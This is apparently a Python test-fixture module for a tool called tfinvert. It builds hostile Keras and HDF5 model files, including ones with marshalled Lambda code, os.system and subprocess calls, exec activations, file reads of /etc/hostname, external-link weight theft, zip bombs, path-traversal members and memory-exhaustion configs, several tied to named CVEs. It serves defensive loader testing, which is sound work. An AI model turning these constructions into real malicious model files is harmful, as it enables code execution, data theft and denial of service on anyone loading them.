"""Keras files made to do harm, each in one way. The payload is always the same: a file that must not appear.

`CASES` maps a name to a builder `(folder, proof) -> path`. `SURVIVED` names those that are read: nothing of what is odd
about them reaches a reader. `SLOW` names those that take seconds or gigabytes.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import tensorflow as tf

from tfinvert.generators.derived.piece import Piece

LATENT = 3
CASES: dict[str, Callable[[Path, Path], Path]] = {}
SURVIVED: set[str] = set()


def case(name: str, survived: bool = False):
    def add(builder: Callable[[Path, Path], Path]) -> Callable[[Path, Path], Path]:
        CASES[name] = builder
        if survived:
            SURVIVED.add(name)
        return builder

    return add


def model() -> keras.Model:
    return keras.Sequential([keras.Input((LATENT,)), keras.layers.Dense(12), keras.layers.Reshape((2, 2, 3))])


_GOOD: dict[str, bytes] = {}


def good(folder: Path, ext: str = ".keras") -> Path:
    """An ordinary file, to be spoilt."""
    path = folder / f"g{ext}"
    if ext not in _GOOD:
        keras.utils.set_random_seed(0)
        model().save(path)
        _GOOD[ext] = path.read_bytes()
    path.write_bytes(_GOOD[ext])
    return path


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(path: Path, parts: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def with_config(path: Path, change: Callable[[dict], Any]) -> Path:
    """The file with its config changed; `change` may give another one."""
    if path.suffix == ".h5":
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            config = change(config) or config
            file.attrs["model_config"] = json.dumps(config)
        return path
    parts = members(path)
    config = json.loads(parts["config.json"])
    config = change(config) or config
    return packed(path, {**parts, "config.json": json.dumps(config).encode()})


def with_arrays(path: Path, change: Callable[[h5py.File], Any]) -> Path:
    """The `.keras` file with its HDF5 changed."""
    parts = members(path)
    buffer = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(buffer, "r+") as file:
        change(file)
    return packed(path, {**parts, "model.weights.h5": buffer.getvalue()})


def touching(proof: Path) -> str:
    """Marshalled code of a function that makes the proof, as Keras stores lambdas."""
    function = eval(f"lambda x: (open({str(proof)!r}, 'w').close(), x)[1]")
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


def lambda_config(proof: Path) -> dict[str, Any]:
    code = {"class_name": "__lambda__", "config": {"code": touching(proof), "defaults": None, "closure": None}}
    return {"name": "l", "function": code, "arguments": {}}


def old_lambda_config(proof: Path) -> dict[str, Any]:
    return {
        "name": "l",
        "function": [touching(proof), None, None],
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }


def typespec(config: Any) -> dict[str, Any]:
    return {
        "class_name": "__typespec__",
        "spec_name": "Lambda",
        "module": "keras.layers",
        "registered_name": "a>b",
        "config": config,
    }


def node(module: str | None, kind: str, config: Any = None, registered: str | None = None) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": config or {}, "registered_name": registered}


CARD = json.dumps({"prior": "normal(3)", "value_range": [-1, 1]}).encode()


def added(layer: dict[str, Any]) -> Callable[[dict], None]:
    """A change that appends a layer."""
    return lambda config: config["config"]["layers"].append(layer)


# Code that a config brings along, or names.


@case("typespec of a Lambda, as the whole config")
def _(folder, proof):
    return packed(
        folder / "g.keras",
        {
            **members(good(folder)),
            "config.json": json.dumps(typespec(old_lambda_config(proof))).encode(),
            "tfinvert.json": CARD,
        },
    )


@case("typespec with its Lambda's parts in a list")
def _(folder, proof):
    config = typespec([old_lambda_config(proof)])
    return packed(folder / "g.keras", {**members(good(folder)), "config.json": json.dumps(config).encode()})


PLACES: dict[str, Callable[[dict, dict], Any]] = {
    "a layer": lambda config, bad: config["config"]["layers"].append(bad),
    "a layer's config": lambda config, bad: config["config"]["layers"][-1]["config"].update(extra=[[bad]]),
    "an initializer": lambda config, bad: config["config"]["layers"][1]["config"].update(kernel_initializer=bad),
    "a dtype": lambda config, bad: config["config"]["layers"][1]["config"].update(dtype=bad),
    "the build config": lambda config, bad: config["config"]["layers"][1].update(build_config={"input_shape": bad}),
    "the model's build config": lambda config, bad: config.update(build_config={"input_shape": bad}),
    "call arguments": lambda config, bad: config["config"]["layers"][1].update(
        inbound_nodes=[{"args": [bad], "kwargs": {}}]
    ),
    "a wrapper": lambda config, bad: config["config"]["layers"].append(
        node("keras.layers", "TimeDistributed", {"layer": bad})
    ),
    "the config of a value": lambda config, bad: config["config"]["layers"][1]["config"].update(
        units={"class_name": "__slice__", "config": {"start": bad, "stop": 1, "step": 1}}
    ),
}
for _ext in (".keras", ".h5"):
    for _place, _put in PLACES.items():

        @case(f"typespec in {_place} ({_ext})")
        def _(folder, proof, ext=_ext, put=_put):
            bad = typespec(old_lambda_config(proof))
            return with_config(good(folder, ext), lambda config: put(config, bad) and None)

    @case(f"a Lambda of Keras 3 ({_ext})")
    def _(folder, proof, ext=_ext):
        layer = node("keras.layers", "Lambda", lambda_config(proof))
        return with_config(good(folder, ext), added(layer))

    @case(f"a Lambda of Keras 2 (CVE-2025-9905 in HDF5) ({_ext})")
    def _(folder, proof, ext=_ext):
        layer = {"class_name": "Lambda", "config": old_lambda_config(proof)}
        return with_config(good(folder, ext), added(layer))

    @case(f"a Lambda under the name of a Dense ({_ext})")
    def _(folder, proof, ext=_ext):
        layer = node("keras.src.layers.core.lambda_layer", "Lambda", lambda_config(proof), "Dense")
        return with_config(good(folder, ext), added(layer))

    @case(f"os.system as a layer (CVE-2025-1550) ({_ext})")
    def _(folder, proof, ext=_ext):
        call = {"args": [f"touch {proof}"], "kwargs": {}}
        return with_config(good(folder, ext), added({**node("os", "system"), "inbound_nodes": [call]}))

    @case(f"a TensorFlow function that writes ({_ext})")
    def _(folder, proof, ext=_ext):
        layer = node("tf_keras.src.layers.core.tf_op_layer", "TFOpLambda", {"name": "w", "function": "io.write_file"})
        return with_config(good(folder, ext), added({**layer, "inbound_nodes": [[str(proof), {"contents": "x"}]]}))

    @case(f"a TensorFlow function that reads a vocabulary ({_ext})")
    def _(folder, proof, ext=_ext):
        config = {"name": "w", "function": "nn.fixed_unigram_candidate_sampler"}
        layer = node("tf_keras.src.layers.core.tf_op_layer", "TFOpLambda", config)
        return with_config(good(folder, ext), added({**layer, "inbound_nodes": [[1, {"vocab_file": "/etc/hostname"}]]}))

    @case(f"a StringLookup with the path of its vocabulary (CVE-2025-12058) ({_ext})")
    def _(folder, proof, ext=_ext):
        layer = node("keras.layers", "StringLookup", {"name": "s", "vocabulary": "/etc/hostname"})
        return with_config(good(folder, ext), added(layer))

    @case(f"a TFSMLayer (CVE-2026-1462) ({_ext})")
    def _(folder, proof, ext=_ext):
        layer = node("keras.layers", "TFSMLayer", {"name": "t", "filepath": str(folder), "call_endpoint": "serve"})
        return with_config(good(folder, ext), added(layer))


def named(module: str, kind: str, config: Any = None, registered: str | None = None):
    return lambda folder, proof: with_config(good(folder), added(node(module, kind, config, registered)))


def function(module: str, name: str, registered: str = "function"):
    bad = {"module": module, "class_name": "function", "config": name, "registered_name": registered}
    return lambda folder, proof: with_config(
        good(folder), lambda config: config["config"]["layers"][1]["config"].update(activation=bad)
    )


for _name, _builder in {
    "get_file as a layer (CVE-2025-8747)": named(
        "keras.utils", "get_file", {"fname": "proof", "origin": "file:///etc/hostname", "extract": True}, "get_file"
    ),
    "safe mode switched off from the config (CVE-2025-9906)": named("keras.config", "enable_unsafe_deserialization"),
    "a model of another file": named("keras.saving", "load_model", {"filepath": "/tmp/other.keras"}),
    "a pickled PyTorch module": named("keras.layers", "TorchModuleWrapper", {"module": "gASV"}),
    "a JaxLayer": named("keras.layers", "JaxLayer", {"call_fn": "gASV"}),
    "ops.Map with a function": named("keras.src.ops.core", "Map", {"function": "f"}),
    "a private class of Keras": named("keras.src.saving.keras_saveable", "KerasSaveable"),
    "the Python class of a subprocess": named("subprocess", "Popen", {"args": ["touch", "proof"]}),
    "builtins.exec as an activation": function("builtins", "exec"),
    "os.system as an activation": function("os", "system", "tanh"),
    "get_file as an activation (CVE-2025-12060)": function("keras.utils", "get_file", "get_file"),
    "urlretrieve by a qualified name": named("tf_keras.src.utils.data_utils", "urlretrieve"),
    "a class by a dotted name": named("tf_keras.src.engine.training", "os.system"),
    "a method that the file names": named(
        None, "ClassMethod", {"cls_symbol": "io.TFRecordWriter", "method_name": "write"}
    ),
}.items():
    CASES[_name] = _builder


@case("an activation by the name of a reader's own function")
def _(folder, proof):
    return with_config(good(folder), lambda c: c["config"]["layers"][1]["config"].update(activation="deserialize"))


@case("a graph operation that writes")
def _(folder, proof):
    layer = {"class_name": "TensorFlowOpLayer", "config": {"name": "w", "node_def": {"name": "a", "op": "WriteFile"}}}
    return with_config(good(folder, ".h5"), added(layer))


@case("training configuration that names a function", survived=True)
def _(folder, proof):
    bad = {"optimizer": node("os", "system"), "loss": {"class_name": "function", "module": "os", "config": "system"}}
    return with_config(good(folder), lambda config: config.update(compile_config=bad))


def piece(change: Callable[[Any], None]):
    """A model with a layer of tfinvert's own, whose graph is changed."""

    def build(folder: Path, proof: Path) -> Path:
        graph = tf.Graph()
        with graph.as_default():
            codes = tf.compat.v1.placeholder(tf.float32, [None, LATENT], name="z")
            tf.reshape(tf.tile(codes, [1, 4]), [-1, 2, 2, 3], name="image")
        definition = graph.as_graph_def()
        layer = Piece(["z:0"], "image:0", (2, 2, 3), definition, name="piece")
        inputs = keras.Input((LATENT,))
        keras.Model(inputs, layer(inputs)).save(folder / "g.keras")
        parts = members(folder / "g.keras")
        (name,) = (each for each in parts if each.endswith("graph.pb"))
        change(definition)
        return packed(folder / "g.keras", {**parts, name: definition.SerializeToString()})

    return build


def writes(definition: Any) -> None:
    image = definition.node[-1]
    image.input.append("^w")
    for name, value in (("path", b"proof"), ("text", b"x")):
        constant = definition.node.add(name=name, op="Const")
        constant.attr["dtype"].type = constant.attr["value"].tensor.dtype = tf.string.as_datatype_enum
        constant.attr["value"].tensor.tensor_shape.SetInParent()
        constant.attr["value"].tensor.string_val.append(value)
    definition.node.add(name="w", op="WriteFile", input=["path", "text"])


def huge(definition: Any) -> None:
    constant = definition.node.add(name="huge", op="Const")
    constant.attr["dtype"].type = constant.attr["value"].tensor.dtype = tf.float32.as_datatype_enum
    constant.attr["value"].tensor.tensor_shape.dim.add(size=2**40)
    constant.attr["value"].tensor.float_val.append(1)


CASES["a layer of tfinvert's own whose graph writes"] = piece(writes)
CASES["a layer of tfinvert's own with a constant of 4 TB"] = piece(huge)


@case("a layer instead of a model")
def _(folder, proof):
    return with_config(good(folder), lambda config: node("keras.layers", "Dense", {"units": 3}))


# Arrays that lie in other files, or nowhere.


def external(target: Path, size: int = 36):
    def change(file: h5py.File) -> None:
        place = file["layers/dense/vars"]
        del place["0"]
        place.create_dataset("0", (3, 12), "f4", external=[(str(target).encode(), 0, 4 * size)])

    return change


@case("weights out of another file: external storage (CVE-2026-1669)")
def _(folder, proof):
    (folder / "secret").write_bytes(b"\0\0\x80?" * 36)
    return with_arrays(good(folder), external(folder / "secret"))


@case("weights out of a pipe that nobody fills")
def _(folder, proof):
    os.mkfifo(folder / "pipe")
    return with_arrays(good(folder), external(folder / "pipe"))


@case("weights out of another file, in HDF5 of Keras 2")
def _(folder, proof):
    (folder / "secret").write_bytes(b"\0\0\x80?" * 36)
    path = good(folder, ".h5")
    with h5py.File(path, "r+") as file:
        name = next(n for n in file["model_weights"] if n.startswith("dense"))
        found = []
        file["model_weights"][name].visititems(
            lambda n, item: found.append(item.name) if isinstance(item, h5py.Dataset) and item.ndim == 2 else None
        )
        del file[found[0]]
        file.create_dataset(found[0], (3, 12), "f4", external=[(str(folder / "secret").encode(), 0, 144)])
    return path


@case("weights by a virtual dataset")
def _(folder, proof):
    with h5py.File(folder / "other.h5", "w") as other:
        other["w"] = np.ones((3, 12), np.float32)

    def change(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((3, 12), "f4")
        layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "w", (3, 12))
        del file["layers/dense/vars/0"]
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    return with_arrays(good(folder), change)


def linked(link: Callable[[Path], Any], place: str = "layers/dense/vars/0"):
    def build(folder: Path, proof: Path) -> Path:
        with h5py.File(folder / "other.h5", "w") as other:
            other["w"] = np.ones((3, 12), np.float32)

        def change(file: h5py.File) -> None:
            del file[place]
            file[place] = link(folder)

        return with_arrays(good(folder), change)

    return build


CASES["weights by an external link"] = linked(lambda folder: h5py.ExternalLink(str(folder / "other.h5"), "w"))
CASES["a group by an external link"] = linked(
    lambda folder: h5py.ExternalLink(str(folder / "other.h5"), "/"), "layers/dense/vars"
)
CASES["weights by a soft link"] = linked(lambda folder: h5py.SoftLink("/layers/dense/vars/1"))
CASES["a soft link to itself"] = linked(lambda folder: h5py.SoftLink("/layers/dense/vars/0"))


@case("a group that holds itself")
def _(folder, proof):
    return with_arrays(good(folder), lambda file: file["layers/dense"].__setitem__("again", file["layers"]))


@case("arrays of Python objects")
def _(folder, proof):
    def change(file: h5py.File) -> None:
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = np.array(["x" * 100] * 36, dtype=h5py.string_dtype())

    return with_arrays(good(folder), change)


def declared(shape: tuple[int, ...], **how: Any):
    def build(folder: Path, proof: Path) -> Path:
        def change(file: h5py.File) -> None:
            del file["layers/dense/vars/0"]
            file.create_dataset("layers/dense/vars/0", shape, "f4", **how)

        return with_arrays(good(folder), change)

    return build


CASES["an array that declares a petabyte (CVE-2026-0897)"] = declared((2**24, 2**24), chunks=(1, 1024))
CASES["an array that declares 40 GB, compressed"] = declared((10**5, 10**5), chunks=(1000, 1000), compression="gzip")
CASES["an array that declares 8 GB and stores nothing"] = declared((2, 10**9))


@case("zeros that unfold to 8 GB")
def _(folder, proof):
    packed_zeros = zlib.compress(bytes(4 * 10**7), 9)

    def change(file: h5py.File) -> None:
        del file["layers/dense/vars/0"]
        array = file.create_dataset("layers/dense/vars/0", (2000, 10**6), "f4", chunks=(10, 10**6), compression=9)
        for row in range(0, 2000, 10):
            array.id.write_direct_chunk((row, 0), packed_zeros)

    return with_arrays(good(folder), change)


@case("100 attributes of 60 kB on each group", survived=True)
def _(folder, proof):
    def change(file: h5py.File) -> None:
        for group in (file, file["layers"]):
            for number in range(100):
                group.attrs[f"a{number}"] = np.zeros(15_000, np.int32)

    return with_arrays(good(folder), change)


# Archives that unfold, and lie.


def spaces(count: int) -> bytes:
    """A deflated stream of so many spaces: one block again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (count // 2**20) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def bomb(folder: Path, name: str, size: int, declare: int | None = None) -> Path:
    """A `.keras` file one part of which unfolds to `size` bytes, and declares as many or others."""
    parts = members(good(folder))
    parts.pop(name, None)
    path = packed(folder / "g.keras", parts)
    stream = spaces(size)
    told = size if declare is None else declare
    with zipfile.ZipFile(path, "a") as archive:
        place = archive.start_dir
        information = zipfile.ZipInfo(name)
        information.compress_type, information.compress_size = zipfile.ZIP_DEFLATED, len(stream)
        information.file_size, information.header_offset, information.CRC = told, place, 0
        archive.fp.seek(place)
        archive.fp.write(information.FileHeader(False) + stream)
        archive.start_dir = archive.fp.tell()
        archive.filelist.append(information)
        archive.NameToInfo[name] = information
        archive._didModify = True
    return path


CASES["a config of 2 GB"] = lambda folder, proof: bomb(folder, "config.json", 2**31)
CASES["a config of 2 GB that declares 9 bytes"] = lambda folder, proof: bomb(folder, "config.json", 2**31, 9)
CASES["metadata of 1 GB"] = lambda folder, proof: bomb(folder, "metadata.json", 2**30)
CASES["a card of 1 GB"] = lambda folder, proof: bomb(folder, "tfinvert.json", 2**30)
CASES["weights that unfold to 4.3 GB"] = lambda folder, proof: bomb(folder, "model.weights.h5", 2**32 - 2**20)


@case("another member of 4 GB", survived=True)
def _(folder, proof):
    return bomb(folder, "assets/more.bin", 2**32 - 2**20)


@case("members that would leave the folder", survived=True)
def _(folder, proof):
    parts = members(good(folder))
    return packed(folder / "g.keras", {**parts, f"../{proof.name}": b"x", str(proof): b"x", "assets/../../x": b"x"})


@case("a config that is a symbolic link")
def _(folder, proof):
    parts = members(good(folder))
    parts.pop("config.json")
    path = packed(folder / "g.keras", parts)
    with zipfile.ZipFile(path, "a") as archive:
        information = zipfile.ZipInfo("config.json")
        information.external_attr = 0o120777 << 16
        archive.writestr(information, "/etc/hostname")
    return path


@case("half a million members")
def _(folder, proof):
    path = good(folder)
    with zipfile.ZipFile(path, "a") as archive:
        for number in range(500_000):
            information = zipfile.ZipInfo(f"{number}")
            information.header_offset = information.CRC = 0
            archive.filelist.append(information)
        archive._didModify = True
    return path


@case("an archive of PNG comment and no end")
def _(folder, proof):
    path = good(folder)
    path.write_bytes(b"PK\x03\x04" + os.urandom(10_000))
    return path


@case("a list of members that lies outside the file")
def _(folder, proof):
    path = good(folder)
    content = bytearray(path.read_bytes())
    place = content.rindex(b"PK\x05\x06")
    content[place + 16 : place + 20] = struct.pack("<I", 2**32 - 2)
    path.write_bytes(content)
    return path


# Configs that are too much.


def deep(levels: int) -> bytes:
    return b'{"class_name": "Sequential", "config": ' + b'{"a":[' * levels + b"1" + b"]}" * levels + b"}"


@case("a config nested 100,000 times")
def _(folder, proof):
    return packed(folder / "g.keras", {**members(good(folder)), "config.json": deep(100_000)})


@case("a config nested 400 times")
def _(folder, proof):
    return packed(folder / "g.keras", {**members(good(folder)), "config.json": deep(400)})


@case("a card nested 100,000 times")
def _(folder, proof):
    return packed(folder / "g.keras", {**members(good(folder)), "tfinvert.json": b"[" * 100_000})


@case("a card with another prior in it")
def _(folder, proof):
    card = {"prior": f"__import__('pathlib').Path({str(proof)!r}).touch()", "value_range": [-1, 1]}
    return packed(folder / "g.keras", {**members(good(folder)), "tfinvert.json": json.dumps(card).encode()})


@case("a card with class names that are a number", survived=True)
def _(folder, proof):
    return packed(folder / "g.keras", {**members(good(folder)), "tfinvert.json": b'{"class_names": 5}'})


@case("a card with a value range of text")
def _(folder, proof):
    return packed(folder / "g.keras", {**members(good(folder)), "tfinvert.json": b'{"value_range": "ab"}'})


def layers(*given: dict[str, Any], codes: Any = LATENT):
    """A Sequential of these layers, without weights."""

    def build(folder: Path, proof: Path) -> Path:
        start = node("keras.layers", "InputLayer", {"batch_shape": [None, codes], "dtype": "float32", "name": "i"})
        config = node("keras", "Sequential", {"name": "s", "layers": [start, *given]})
        return packed(folder / "g.keras", {**members(good(folder)), "config.json": json.dumps(config).encode()})

    return build


def layer(kind: str, **config: Any) -> dict[str, Any]:
    return node("keras.layers", kind, {"name": kind.lower(), **config})


_IMAGE = layer("Reshape", target_shape=[1, 1, 3])
for _name, _builder in {
    "a dense layer of 2^30 units": layers(layer("Dense", units=2**30)),
    "a dense layer of -5 units": layers(layer("Dense", units=-5)),
    "a dense layer of 10^400 units": layers(layer("Dense", units=10**400)),
    "a dense layer of units that are text": layers(layer("Dense", units="many")),
    "codes of 10^10 entries": layers(_IMAGE, codes=10**10),
    "images repeated to 10^5 x 10^5": layers(_IMAGE, layer("UpSampling2D", size=[100_000, 100_000])),
    "an embedding of 2^40 rows": layers(layer("Embedding", input_dim=2**40, output_dim=8)),
    "codes repeated 10^9 times": layers(layer("RepeatVector", n=10**9)),
    "images padded with 10^5 pixels": layers(_IMAGE, layer("ZeroPadding2D", padding=[100_000, 100_000])),
    "images resized to 60,000 x 60,000": layers(_IMAGE, layer("Resizing", height=60_000, width=60_000)),
    "a convolution with strides of 0": layers(_IMAGE, layer("Conv2D", filters=1, kernel_size=1, strides=0)),
    "a transposed convolution with a stride of 10^5": layers(
        _IMAGE, layer("Conv2DTranspose", filters=1, kernel_size=1, strides=100_000)
    ),
    "a recurrent layer over 10^8 steps": layers(layer("RepeatVector", n=10**8), layer("SimpleRNN", units=3), _IMAGE),
    "an array of 10^9 letters": layers(
        layer("Normalization", mean={"class_name": "__numpy__", "config": {"value": ["a"], "dtype": "S2000000000"}})
    ),
    "a tensor of another type": layers(
        layer("Rescaling", scale={"class_name": "__tensor__", "config": {"value": 1, "dtype": "variant"}})
    ),
    "100,000 layers": layers(*[layer("Identity") | {"name": str(n)} for n in range(100_000)]),
}.items():
    CASES[_name] = _builder


@case("1.3 GB of weights in 6 MB")
def _(folder, proof):
    """Zeros, and as much noise as the ratio of what is declared to what is stored asks for."""
    wide, block = 18_000, 100
    dense = [
        layer("Dense", units=units) | {"config": {"name": str(units), "units": units}} for units in (wide, wide, 12)
    ]
    path = layers(
        dense[0],
        dense[1] | {"config": {"name": "again", "units": wide}},
        dense[2],
        layer("Reshape", target_shape=[2, 2, 3]),
    )(folder, proof)
    size, noise = 4 * block * wide, np.random.default_rng(0).bytes(300_000)
    packed_noise, packed_zeros = (zlib.compress(each.ljust(size, b"\0"), 9) for each in (noise, b""))
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        for name, shape in {"dense": (LATENT, wide), "dense_1": (wide, wide), "dense_2": (wide, 12)}.items():
            place = file.create_group(f"layers/{name}/vars")
            place["1"] = np.zeros(shape[1], np.float32)
            if name != "dense_1":
                place["0"] = np.ones(shape, np.float32)
                continue
            array = place.create_dataset("0", shape, "f4", chunks=(block, wide), compression=9)
            for row in range(0, wide, block):
                array.id.write_direct_chunk((row, 0), packed_noise if row < 10 * block else packed_zeros)
    return packed(path, {**members(path), "model.weights.h5": buffer.getvalue()})


# TensorFlow tries for ten seconds to find memory that is not there.
SLOW = {
    "a dense layer of 2^30 units",
    "images repeated to 10^5 x 10^5",
    "an embedding of 2^40 rows",
    "codes repeated 10^9 times",
    "images padded with 10^5 pixels",
    "images resized to 60,000 x 60,000",
    "100,000 layers",
    "half a million members",
    "1.3 GB of weights in 6 MB",
}

# What is no file.


@case("a class whose name steers the terminal and fills it")
def _(folder, proof):
    return with_config(good(folder), added(node("keras.layers", "\x1b[2J\u202e" + "N" * 1_000_000)))


@case("a record of how a layer was built that has a million numbers")
def _(folder, proof):
    record = {"input_shape": [[1] * 1000] * 1000}
    return with_config(good(folder), lambda config: config["config"]["layers"][1].update(build_config=record))


@case("a hole of 300 GB in an archive")
def _(folder, proof):
    path = good(folder)
    content = path.read_bytes()
    directory = content.rindex(b"PK\x05\x06")
    with path.open("r+b") as file:
        file.seek(300 * 10**9)
        file.write(content[directory:])
    return path


@case("a pipe instead of a file")
def _(folder, proof):
    os.mkfifo(folder / "g.keras")
    return folder / "g.keras"


@case("a device instead of a file")
def _(folder, proof):
    (folder / "g.keras").symlink_to("/dev/zero")
    return folder / "g.keras"


@case("a link to itself")
def _(folder, proof):
    (folder / "g.keras").symlink_to(folder / "g.keras")
    return folder / "g.keras"
